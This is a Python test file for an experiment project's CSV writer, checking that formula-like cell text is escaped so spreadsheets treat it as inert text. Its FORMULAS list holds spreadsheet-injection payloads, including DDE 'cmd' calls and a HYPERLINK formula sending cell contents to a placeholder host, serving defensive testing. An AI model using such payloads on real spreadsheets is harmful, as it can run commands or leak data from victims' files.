"""What users wrote as text stays text when a table of results is opened in a spreadsheet, and is read back as it was."""

import csv
import io

import numpy as np
import pandas as pd
import pytest
from hypothesis import given
from hypothesis import strategies as some
from matplotlib.figure import Figure

from experiments import storage
from experiments.analysis.economics import economics_tables
from experiments.report.drawing import Drawing, save

FORMULAS = [
    '=HYPERLINK("https://x.example?"&A1,"ok")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
    "'=1+1",
    "''@x",
]
HARMLESS = ["Radical", "a=b", "5 - 3", "it's", "'quoted'", "-", "+", "−3", "", "x\n=1"]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def cells(text):
    """What a spreadsheet finds in each cell."""
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def is_number(cell):
    try:
        float(cell)
    except ValueError:
        return False
    return True


def dangerous(text):
    return [cell for cell in cells(text) if len(cell) > 1 and cell.startswith(STARTS) and not is_number(cell)]


@pytest.mark.parametrize("text", FORMULAS)
def test_a_text_that_looks_like_a_formula_is_text_and_is_read_back(tmp_path, text):
    table = pd.DataFrame({"arm": [text, "b", None], text: [-1.5, 2.0, np.nan], "n": [-1, 2, 3]})
    storage.write_csv(tmp_path / "t.csv", table)
    assert dangerous((tmp_path / "t.csv").read_bytes().decode()) == []
    for read in (storage.read_csvs(tmp_path, "t")["t"], storage.read_csv(tmp_path / "t.csv")):
        pd.testing.assert_frame_equal(
            read, table.replace("\r", "\n", regex=True).rename(columns=lambda name: name.replace("\r", "\n"))
        )


@given(some.lists(some.text(some.sampled_from("=+-@\t'\"a1 ,;\n|!"), max_size=6), min_size=1, max_size=4))
def test_any_text_is_read_back(texts):
    table = pd.DataFrame({"arm": pd.Series(["x", *texts], dtype="str")})
    text = storage.csv_of(table)
    assert dangerous(text) == []
    again = storage.read_csv(io.StringIO(text, newline=""), keep_default_na=False, dtype=str, skip_blank_lines=False)
    assert again["arm"].tolist() == ["x", *texts]


@pytest.mark.parametrize("text", HARMLESS)
def test_other_texts_are_written_as_they_are(text):
    assert text in cells(storage.csv_of(pd.DataFrame({"arm": [text, "b"]})))


def test_numbers_are_written_to_the_same_bytes():
    table = pd.DataFrame(
        {"diff": [-1.5, 1e-17], "n": [-3, 4], "mixed": [-0.1, "+1 to -2"], "words": ["-0.3", "+4"], "none": [None, -1]}
    )
    inert = storage.csv_of(table)
    assert inert == table.to_csv(index=False, lineterminator="\n").replace("+1 to -2", "'+1 to -2")


def test_categories_and_headings_that_are_numbers():
    table = pd.DataFrame({"kind": pd.Categorical(["=a", "b"]), 3: [1, 2]})
    assert storage.csv_of(table) == "kind,3\n'=a,1\nb,2\n"


@pytest.mark.parametrize("how", ["figure", "economics", "tables"])
def test_wherever_tables_are_written(tmp_path, how):
    table = pd.DataFrame({"arm": ["=1+1", "@x"], "-2+3": ["+a", "b"]})
    if how == "figure":
        figure = Figure(figsize=(2, 2))
        figure.subplots().plot([1, 2])
        save(Drawing("t", "c", figure, "a", table), tmp_path, "figure")
    elif how == "economics":
        economics_tables.write_tables(tmp_path, {"who": table})
    else:
        storage.write_csvs(tmp_path, {"who": table})
    (found,) = tmp_path.rglob("*.csv")
    assert dangerous(found.read_text()) == []


def test_tables_are_written_and_read_in_one_place():
    """Whoever wrote a table elsewhere would write formulas, and whoever read one elsewhere would read apostrophes."""
    from pathlib import Path

    root = Path(storage.__file__).parent
    told = {
        file.relative_to(root).as_posix()
        for file in root.rglob("*.py")
        if ".to_csv(" in (text := file.read_text(encoding="utf-8")) or "pd.read_csv(" in text
    }
    posterior = {
        "evidence/authorities/__main__.py",
        "evidence/authorities/sources.py",
        "evidence/council_income.py",
        "evidence/parameter_sets.py",
        "evidence/planner_readiness.py",
        "questions/stress/narrowed.py",
        "questions/calibrate/outcome.py",
    }  # keys and numbers
    assert told == {"storage.py", *posterior}


def test_remarks_at_the_head_of_a_table_are_passed_over(tmp_path):
    path = tmp_path / "table.csv"
    path.write_text("# whose it is\n# made=1, by=2\nname,value\na,1\n#b,2\n", encoding="utf-8")
    read = storage.read_csv(path)
    assert read.to_dict("list") == {"name": ["a", "#b"], "value": [1, 2]}
